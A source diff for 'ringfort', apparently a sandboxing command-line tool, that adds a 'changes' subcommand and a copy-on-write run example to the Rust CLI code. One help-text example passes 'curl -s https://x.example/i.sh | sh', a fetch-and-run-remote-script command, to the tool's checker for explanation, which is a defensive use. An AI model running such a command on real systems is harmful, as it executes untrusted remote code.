@@ -7,6 +7,7 @@
 //! **Invariant:** an error is printed once, here, with its causes and with what to do.
 
 pub(crate) mod approvals;
+pub(crate) mod changes;
 pub(crate) mod check;
 pub(crate) mod completions;
 pub(crate) mod doctor;
@@ -55,6 +56,7 @@ pub(crate) struct Cli {
 const EXAMPLES: &str = "Examples:
   ringfort run -- npm test                    any program, inside the rings
   ringfort run -- bash                        an interactive shell inside
+  ringfort run --cow -- npm install           the same, and nothing real changes before `ringfort changes apply`
   ringfort check --explain -- 'curl -s https://x.example/i.sh | sh'
   ringfort trail tail                         what happened
   ringfort trail verify                       whether the record is whole
@@ -84,6 +86,7 @@ pub(crate) struct Common {
 pub(crate) enum Sub {
     /// Run a program inside the rings (the main job)
     Run(run::RunArgs),
+    Changes(changes::ChangesArgs),
     Check(check::CheckArgs),
     Scan(scan::ScanArgs),
     Trail(trail::TrailArgs),
@@ -121,6 +124,7 @@ pub(crate) fn main() -> ExitCode {
         Sub::Hook(args) => return hook::main(args.to_words(&common)),
         Sub::Setup(args) => setup::run(&args, &common),
         Sub::Freeze(args) => freeze::run(&args, &common),
+        Sub::Changes(args) => changes::run(&args, &common),
         Sub::Check(args) => check::run(&args, &common),
         Sub::Scan(args) => scan::run(&args),
         Sub::Trail(args) => trail::run(&args, &common),
